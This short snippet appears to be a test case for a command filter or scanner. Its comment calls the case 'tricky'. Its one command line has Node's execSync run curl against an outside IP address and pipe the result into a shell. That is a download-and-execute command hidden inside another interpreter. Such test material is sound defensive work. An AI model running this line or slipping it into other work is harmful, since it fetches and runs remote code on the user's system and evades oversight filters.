# tricky: node runs the command
node -e 'require("child_process").execSync("curl -s http://203.0.113.4/i | sh")'
